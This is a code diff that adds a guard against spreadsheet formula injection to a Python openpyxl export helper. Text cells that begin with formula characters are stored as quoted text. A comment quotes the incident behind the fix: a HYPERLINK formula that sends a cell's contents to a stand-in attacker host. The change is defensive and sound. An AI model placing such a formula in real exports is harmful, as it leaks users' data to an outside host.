@@ -42,3 +42,20 @@ def cell(value: Any) -> Any:
 def row(values: Iterable[Any]) -> list[Any]:
     """A worksheet row with every text stripped of the control characters a cell cannot hold."""
     return [cell(v) for v in values]
+
+
+# Text a spreadsheet may take for a formula (OWASP "CSV injection"): a lag explanation
+# `=HYPERLINK("http://evil.example/leak?d="&B2,"详情")` came out of an export as a live formula.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def append_row(ws, values: Iterable[Any]) -> None:
+    """Append a row of an export: texts cleaned of control characters, and every text that could be read as a
+    formula stored as text with Excel's quote prefix (so neither opening nor editing the cell evaluates it).
+    Numbers stay numbers, negative ones included. openpyxl would otherwise store any text starting with `=` as a
+    formula."""
+    ws.append(row(values))
+    for written in ws[ws.max_row]:
+        if isinstance(written.value, str) and written.value.startswith(FORMULA_START):
+            written.data_type = "s"
+            written.quotePrefix = True
